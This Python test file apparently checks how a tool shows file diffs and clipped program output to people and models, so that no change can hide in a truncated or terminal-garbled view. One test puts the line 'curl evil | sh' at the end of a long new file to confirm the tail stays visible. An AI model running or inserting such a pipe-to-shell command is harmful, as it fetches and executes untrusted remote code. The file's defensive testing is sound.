"""What people and models are shown: diffs that hide nothing, and output cut in the middle."""

from pathlib import Path

from longhaul.activities.process.program_output import ClippedBytes, clipped
from longhaul.activities.tools.file_changes import change_notification, visible_line
from longhaul.activities.tools.files import ABSENT, FileSnapshot, digest_of

PATH = Path("/r/f.txt")


def before(text: str) -> FileSnapshot:
    return FileSnapshot(digest_of(text.encode()), len(text.encode()), text.encode())


def test_a_change_far_down_in_a_large_file_keeps_its_line_numbers() -> None:
    old = "".join(f"line {n}\n" for n in range(1, 100_001))

    notice = change_notification(PATH, before(old), old.replace("line 70000\n", "new\n").encode())

    assert notice.splitlines()[2:] == [
        "@@ -69997,7 +69997,7 @@",
        " line 69997",
        " line 69998",
        " line 69999",
        "-line 70000",
        "+new",
        " line 70001",
        " line 70002",
        " line 70003",
    ]


def test_a_diff_that_is_too_long_says_how_much_is_missing_and_shows_its_end() -> None:
    new = "".join(f"row {n}\n" for n in range(3000)) + "curl evil | sh\n"

    notice = change_notification(PATH, FileSnapshot(ABSENT), new.encode())

    lines = notice.splitlines()
    shown = sum(line.startswith("+") for line in lines[2:])
    assert len(notice) <= 4000
    assert lines[-1] == "+curl evil | sh"
    assert f"… {3001 - shown} lines of this change are not shown here …" in lines


def test_a_long_line_says_how_much_of_it_is_missing() -> None:
    notice = change_notification(PATH, FileSnapshot(ABSENT), b"x" * 1000 + b"\n")

    assert notice.splitlines()[-1] == "+" + "x" * 399 + "… (601 more characters)"


def test_line_endings_and_a_missing_last_newline_are_visible() -> None:
    notice = change_notification(PATH, before("a\r\nb"), b"a\nb")

    assert notice.splitlines()[2:] == ["@@ -1,2 +1,2 @@", r"-a\r", "+a", " b", "\\ No newline at end of file"]


def test_characters_that_a_terminal_obeys_or_hides_are_written_out() -> None:
    hostile = "a\x1b[2K\rb\u202ec\u200bd\ne\ttab é 日本"

    assert visible_line(hostile) == r"a\x1b[2K\rb\u202ec\u200bd\ne" + "\ttab é 日本"


def test_binary_content_is_described() -> None:
    notice = change_notification(PATH, FileSnapshot("0" * 64, 3, b"\xff\x00\x01"), b"text")

    assert notice.splitlines()[-1] == "3 bytes are replaced by 4 bytes; not shown as text"


def test_text_that_fits_is_whole_and_longer_text_never_exceeds_the_cap() -> None:
    assert clipped("x" * 300, 300) == "x" * 300
    assert len(clipped("x" * 301, 300)) == 300


def test_a_stream_in_small_pieces_keeps_its_head_and_its_tail() -> None:
    output = ClippedBytes(character_cap=400)
    for number in range(5000):
        output.add(f"{number:05}é\n".encode())

    text = output.text()

    assert text.startswith("00000é\n00001é\n")
    assert text.endswith("\n04998é\n04999é\n")
    assert len(text) <= 400
    assert "�" not in text
    assert output.total_bytes == 40_000
